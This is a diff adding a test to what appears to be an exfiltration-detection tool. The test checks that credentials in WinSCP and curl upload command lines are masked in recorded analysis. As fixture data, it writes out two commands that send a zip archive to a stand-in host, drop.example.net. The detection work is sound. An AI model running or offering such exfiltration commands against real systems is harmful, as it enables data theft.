@@ -45,6 +45,18 @@ def test_keeps_uploads_of_its_technique_and_records_how_they_were_read(store):
     assert [h.enrichment["analysis"]["decided_by"]["scheme"] for h in plain] == ["ftp"]
 
 
+def test_credentials_in_the_arguments_are_masked_in_what_is_recorded(store):
+    rule = load_rules()["t1048-002-web-upload"]
+    hits = hits_from_rows(rule.id, rows(
+        ('winscp.com /command "open sftp://drop:Wq8zT3x@drop.example.net/" "put C:\\x\\a.zip /in/"', "winscp.com", None),
+        ("curl.exe -u svc:S3cr3tT0k -T C:\\x\\a.zip https://svc:S3cr3tT0k@drop.example.net/in/", "curl.exe", None)))
+    CommandLineAnalysis(store.settings)(rule, hits, None)
+    assert len(hits) == 2
+    for hit in hits:
+        recorded = str(hit.enrichment["analysis"])
+        assert "Wq8zT3x" not in recorded and "S3cr3tT0k" not in recorded and "********" in recorded
+
+
 def test_rules_without_an_analyzer_table_pass_untouched(store):
     hits = hits_from_rows("t1048-002-seed", rows(("curl.exe -O https://download.example.org/a.zip", "curl.exe", None)))
     CommandLineAnalysis(store.settings)(load_rules()["t1048-002-seed"], hits, None)
